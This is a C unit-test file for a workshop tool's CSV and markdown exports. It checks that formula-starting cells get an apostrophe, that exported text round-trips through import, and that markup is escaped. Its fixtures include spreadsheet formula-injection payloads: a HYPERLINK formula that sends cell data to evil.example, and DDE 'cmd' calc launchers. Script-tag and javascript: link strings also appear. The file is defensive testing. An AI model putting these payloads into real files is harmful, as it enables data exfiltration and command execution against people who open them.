/* test_export_escape.c: what the CSV and markdown exports do with text
 * meant to attack the program a file is opened in.
 *
 * CSV: a cell a spreadsheet would run as a formula (= + - @, tab, CR
 * first) carries a leading apostrophe, numbers stay numbers, and an
 * import of the exported cells gives back the text as it was stored.
 * Markdown: letters and symbols beyond ASCII are never backslashed. */
#include <criterion/criterion.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "journeyhack/csv.h"
#include "journeyhack/export.h"
#include "journeyhack/export_mdtext.h"
#include "journeyhack/export_w.h"
#include "journeyhack/import_csv.h"
#include "journeyhack/items.h"
#include "journeyhack/store.h"
#include "journeyhack/text.h"
#include "testutil.h"

static char *dir;
static struct jh_store *st;
static jh_id wid;

static jh_id add(jh_id w, enum jh_kind kind, const char *const *args)
{
	struct jh_assign a[16];
	char names[16][64];
	struct jh_values vals = {0};
	struct jh_err err;
	size_t n = 0;
	jh_id id = 0;

	for (; args[n]; n++)
		cr_assert_eq(items_split_assign(args[n], &a[n], names[n], sizeof names[n], &err), 0,
			     "%s", err.msg);
	cr_assert_eq(items_parse(st, w, kind, a, n, 1, &vals, &err), 0, "%s: %s", args[0], err.msg);
	cr_assert_eq(store_item_add(st, w, kind, vals.v, vals.n, &id, &err), 0, "%s", err.msg);
	items_values_free(&vals);
	return id;
}

#define ADD(kind, ...) add(wid, kind, (const char *const[]){__VA_ARGS__, NULL})

static jh_id workshop(const char *name)
{
	static char *stages[] = {"Aware", "Pay"};
	struct jh_template t;
	struct jh_err err;
	jh_id id;

	memset(&t, 0, sizeof t);
	t.name = "escape";
	t.title = "Escapes";
	t.stages = stages;
	t.nstages = 2;
	t.method = "impact-effort";
	t.dots_per_participant = 5;
	cr_assert_eq(store_workshop_create(st, name, &t, &id, &err), 0, "%s", err.msg);
	return id;
}

static void setup(void)
{
	struct jh_err err;
	char *db;

	setenv("JOURNEYHACK_TODAY", "2026-03-12", 1);
	dir = tu_tmpdir();
	db = tu_join(dir, "w.db");
	cr_assert_eq(store_open(&st, db, 0, &err), 0, "%s", err.msg);
	free(db);
	wid = workshop("demo");
}

static void teardown(void)
{
	if (st)
		store_close(st);
	tu_rmtree(dir);
	free(dir);
}

TestSuite(export_escape, .init = setup, .fini = teardown);

static char *render(jh_id w, enum export_format f, enum export_report r)
{
	struct jh_data d;
	struct jh_err err;
	char *buf = NULL;
	size_t n = 0;
	FILE *m = open_memstream(&buf, &n);

	cr_assert(m);
	cr_assert_eq(store_load(st, w, &d, &err), 0, "%s", err.msg);
	cr_assert_eq(export_write(m, &d, f, r, &err), 0, "%s", err.msg);
	fclose(m);
	model_data_free(&d);
	return buf;
}

static void parse(const char *csv, struct csv_table *t)
{
	struct jh_err err;

	cr_assert_eq(csv_parse(csv, strlen(csv), "export.csv", t, &err), 0, "%s\n%s", err.msg, csv);
}

static size_t column(const struct csv_table *t, const char *name)
{
	for (size_t c = 0; c < t->header.nfields; c++)
		if (!strcmp(t->header.fields[c], name))
			return c;
	cr_assert_fail("no column %s", name);
	return 0;
}

/* ----------------------------------------------------------------- CSV */

/* Titles as an attacker would send them, each with the cell it must
 * become: OWASP's triggers get one apostrophe, text that already starts
 * with apostrophes before a trigger one more, so the import can tell the
 * export's apostrophe from the user's. */
static const char *const formulas[][2] = {
    {"=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
     "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"},
    {"=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"},
    {"+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
    {"-2+3", "'-2+3"},
    {"@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"},
    {"\t=1+1", "'\t=1+1"},
    {"\r=1+1", "'\r=1+1"},
    {"'=1+1", "''=1+1"},
    {"'quoted on purpose", "'quoted on purpose"},
    {"a = b + c", "a = b + c"},
};
#define NFORMULAS (sizeof formulas / sizeof formulas[0])

static void add_formula_actions(void)
{
	char title[128], notes[128];

	for (size_t i = 0; i < NFORMULAS; i++) {
		snprintf(title, sizeof title, "title=%s", formulas[i][0]);
		snprintf(notes, sizeof notes, "notes=%s", formulas[i][0]);
		ADD(JH_ACTION, title, "owner=-Anna", notes);
	}
}

Test(export_escape, csv_cells_that_start_a_formula_get_an_apostrophe)
{
	struct csv_table t;
	char *csv;
	size_t title, owner, notes;

	add_formula_actions();
	csv = render(wid, EXPORT_CSV, EXPORT_ACTIONS);
	parse(csv, &t);
	title = column(&t, "title");
	owner = column(&t, "owner");
	notes = column(&t, "notes");
	cr_assert_eq(t.nrows, NFORMULAS);
	for (size_t i = 0; i < NFORMULAS; i++) {
		cr_expect_str_eq(t.rows[i].fields[title], formulas[i][1], "title %zu", i);
		cr_expect_str_eq(t.rows[i].fields[notes], formulas[i][1], "notes %zu", i);
		cr_expect_str_eq(t.rows[i].fields[owner], "'-Anna");
	}
	csv_free(&t);
	free(csv);
}

Test(export_escape, csv_backlog_guards_titles_and_test_cards_not_numbers)
{
	struct csv_table t;
	char *csv;

	ADD(JH_IDEA, "title=@import evil", "belief=+ it works", "experiment==1+1", "metric=-",
	    "success=@");
	csv = render(wid, EXPORT_CSV, EXPORT_BACKLOG);
	parse(csv, &t);
	cr_assert_eq(t.nrows, 1);
	cr_expect_str_eq(t.rows[0].fields[column(&t, "title")], "'@import evil");
	cr_expect_str_eq(t.rows[0].fields[column(&t, "belief")], "'+ it works");
	cr_expect_str_eq(t.rows[0].fields[column(&t, "experiment")], "'=1+1");
	cr_expect_str_eq(t.rows[0].fields[column(&t, "metric")], "'-");
	cr_expect_str_eq(t.rows[0].fields[column(&t, "success")], "'@");
	cr_expect_str_eq(t.rows[0].fields[column(&t, "rank")], "1");
	cr_expect_str_eq(t.rows[0].fields[column(&t, "impact")], "3");
	csv_free(&t);
	free(csv);
}

/* A negative number in a numeric column is a value: a crafted file can
 * hold one even where the command line refuses it. */
Test(export_escape, csv_negative_numbers_stay_numbers)
{
	struct jh_data d;
	struct jh_err err;
	struct csv_table t;
	char *buf = NULL;
	size_t n = 0;
	FILE *m = open_memstream(&buf, &n);

	ADD(JH_IDEA, "title=Plain");
	cr_assert_eq(store_load(st, wid, &d, &err), 0, "%s", err.msg);
	d.ideas[0].impact = -2;
	d.ideas[0].effort = -1;
	cr_assert_eq(export_write(m, &d, EXPORT_CSV, EXPORT_BACKLOG, &err), 0, "%s", err.msg);
	fclose(m);
	model_data_free(&d);
	parse(buf, &t);
	cr_expect_str_eq(t.rows[0].fields[column(&t, "impact")], "-2");
	cr_expect_str_eq(t.rows[0].fields[column(&t, "effort")], "-1");
	csv_free(&t);
	free(buf);
}

/* Export, keep the columns import takes (the others are the analysis),
 * import into a new workshop: every text comes back as it was. */
Test(export_escape, csv_export_imported_again_gives_the_original_text)
{
	static const char *const keep[] = {"title", "owner", "due", "status", "notes"};
	struct csv_table t;
	struct jh_data d;
	struct jh_err err;
	char *csv, *path = tu_join(dir, "actions.csv");
	FILE *f;
	jh_id copy;
	size_t nrows = 0, col[5];

	add_formula_actions();
	csv = render(wid, EXPORT_CSV, EXPORT_ACTIONS);
	parse(csv, &t);
	f = fopen(path, "wb");
	cr_assert(f);
	cr_assert_eq(csv_write_row(f, keep, 5), 0);
	for (size_t c = 0; c < 5; c++)
		col[c] = column(&t, keep[c]);
	for (size_t r = 0; r < t.nrows; r++) {
		const char *cells[5];
		for (size_t c = 0; c < 5; c++)
			cells[c] = t.rows[r].fields[col[c]];
		cr_assert_eq(csv_write_row(f, cells, 5), 0);
	}
	cr_assert_eq(fclose(f), 0);
	copy = workshop("copy");
	cr_assert_eq(import_csv_file(st, copy, kinds_get(JH_ACTION), path, NULL, &nrows, &err), 0,
		     "%s", err.msg);
	cr_assert_eq(nrows, NFORMULAS);
	cr_assert_eq(store_load(st, copy, &d, &err), 0, "%s", err.msg);
	cr_assert_eq(d.nactions, NFORMULAS);
	for (size_t i = 0; i < NFORMULAS; i++) {
		cr_expect_str_eq(d.actions[i].title, formulas[i][0], "title %zu", i);
		cr_expect_str_eq(d.actions[i].notes, formulas[i][0], "notes %zu", i);
		cr_expect_str_eq(d.actions[i].owner, "-Anna");
	}
	model_data_free(&d);
	csv_free(&t);
	free(csv);
	free(path);
}

/* ------------------------------------------------------------ markdown */

/* Latvian, Turkish, Polish and Czech letters whose code points end in
 * the byte of a markdown character (U+0160 in '`', U+013C in '<',
 * U+015F in '_', U+017C in '|', U+0100 and emoji in NUL), and emoji. */
static const char *const letters[] = {
    "Šķērslis",	   "Āboliņš", "ļoti",	     "şikayet", "żółw",	  "Ťažké",
    "Ŝ ŝ Ş Ū Ĭ ż", "😀",	      "👩‍💻", "🇱🇻",	"⚠️", "Ā ā Ġ ġ Ļ ļ Ŝ ŝ Ū ū Ź ź Ż ż",
};

Test(export_escape, md_never_backslashes_letters_beyond_ascii)
{
	char arg[128];
	char *md;

	for (size_t i = 0; i < sizeof letters / sizeof letters[0]; i++) {
		snprintf(arg, sizeof arg, "title=%s", letters[i]);
		ADD(JH_ACTION, arg, "owner=Jānis Bērziņš");
		snprintf(arg, sizeof arg, "title=%s", letters[i]);
		ADD(JH_IDEA, arg);
	}
	for (int r = EXPORT_ACTIONS; r < EXPORT_NREPORTS; r++) {
		enum export_report rr = (enum export_report)r;

		/* Every report markdown has (the pain points are csv only). */
		if (export_check(EXPORT_MD, &rr, NULL))
			continue;
		md = render(wid, EXPORT_MD, (enum export_report)r);
		for (const char *p = md; (p = strchr(p, '\\')); p++)
			cr_assert((unsigned char)p[1] < 0x80, "a backslash before \"%.8s\" in\n%s",
				  p + 1, md);
		for (size_t i = 0; i < sizeof letters / sizeof letters[0]; i++)
			cr_expect(strstr(md, letters[i]), "%s missing from report %d", letters[i],
				  r);
		cr_expect(r == EXPORT_BACKLOG || strstr(md, "Jānis Bērziņš"), "report %d", r);
		free(md);
	}
}

Test(export_escape, cli_csv_raw_leaves_cells_as_stored)
{
	char *db = tu_join(dir, "w.db");
	struct tu_run r;

	ADD(JH_ACTION, "title==SUM(A1:A9)", "owner=@Anna");
	store_close(st);
	st = NULL;
	r = tu_jhdb(db, (const char *const[]){"export", "demo", "-f", "csv", NULL});
	cr_assert_eq(r.status, 0, "%s", r.err);
	cr_expect(strstr(r.out, ",'=SUM(A1:A9),'@Anna,"), "%s", r.out);
	tu_run_free(&r);
	r = tu_jhdb(db, (const char *const[]){"export", "demo", "-f", "csv", "--csv-raw", NULL});
	cr_assert_eq(r.status, 0, "%s", r.err);
	cr_expect(strstr(r.out, ",=SUM(A1:A9),@Anna,"), "%s", r.out);
	tu_run_free(&r);
	r = tu_jhdb(db, (const char *const[]){"export", "demo", "--csv-raw", NULL});
	cr_expect_eq(r.status, 2);
	cr_expect(strstr(r.err, "--csv-raw applies to -f csv only"), "%s", r.err);
	tu_run_free(&r);
	r = tu_jhdb(db, (const char *const[]){"export", "demo", "--csv-raw=yes", NULL});
	cr_expect_eq(r.status, 2);
	cr_expect(strstr(r.err, "unknown option"), "%s", r.err);
	tu_run_free(&r);
	free(db);
}

/* ------------------------------------------------- the inline escaper */

static char *inline_md(const char *s)
{
	struct export_w w;
	struct jh_err err;
	char *buf = NULL;
	size_t n = 0;
	FILE *m = open_memstream(&buf, &n);

	cr_assert(m);
	export_w_init(&w, m);
	export_mdtext_inline(&w, s);
	cr_assert_eq(export_w_done(&w, &err), 0, "%s", err.msg);
	fclose(m);
	return buf;
}

Test(export_escape, md_inline_escapes_what_gfm_reads_as_markup)
{
	static const char *const cases[][2] = {
	    {"a | b", "a \\| b"},
	    {"# not a heading", "\\# not a heading"},
	    {"> not a quote", "\\> not a quote"},
	    {"- no list", "\\- no list"},
	    {"+ no list", "\\+ no list"},
	    {"=====", "\\====="},
	    {"1. no list", "1\\. no list"},
	    {"12) no list", "12\\) no list"},
	    {"v1.2 stays", "v1.2 stays"},
	    {"*em* _em_ **b** ~~s~~", "\\*em\\* \\_em\\_ \\*\\*b\\*\\* \\~\\~s\\~\\~"},
	    {"`code` ```fence", "\\`code\\` \\`\\`\\`fence"},
	    {"<script>x</script>", "\\<script\\>x\\</script\\>"},
	    {"<http://evil.example>", "\\<http\\://evil.example\\>"},
	    {"[a](javascript:x) ![i](y)", "\\[a\\](javascript:x) !\\[i\\](y)"},
	    {"&amp; $x$ \\", "\\&amp; \\$x\\$ \\\\"},
	    {"one\ntwo\r\n- three\r4. four", "one<br>two<br>\\- three<br>4\\. four"},
	    {"  \t indented\t", "indented"},
	    {"a\x1b[31mb", "a\xe2\x90\x9b\\[31mb"},
	    {"Š Ā ļ ş ż 😀 👩‍💻", "Š Ā ļ ş ż 😀 👩‍💻"},
	    {"see https://x.example/a_b and www.y.example",
	     "see https\\://x.example/a\\_b and www\\.y.example"},
	    {"ftp://f.example", "ftp\\://f.example"},
	    {"", ""},
	};

	for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
		char *got = inline_md(cases[i][0]);
		cr_expect_str_eq(got, cases[i][1], "case %zu", i);
		free(got);
	}
}

/* Every code point from U+0080 to U+FFFF and a sample of the planes
 * above: none is ever escaped, whatever its low byte. */
Test(export_escape, md_inline_writes_every_non_ascii_code_point_as_is)
{
	char in[8], *got;
	size_t n;

	for (unsigned int cp = 0xA0; cp < 0x110000; cp += cp < 0x10000 ? 1 : 0x3F) {
		if (cp >= 0xD800 && cp < 0xE000)
			continue;
		n = text_encode(in, cp);
		in[n] = '\0';
		got = inline_md(in);
		cr_assert_str_eq(got, in, "U+%04X", cp);
		free(got);
	}
}
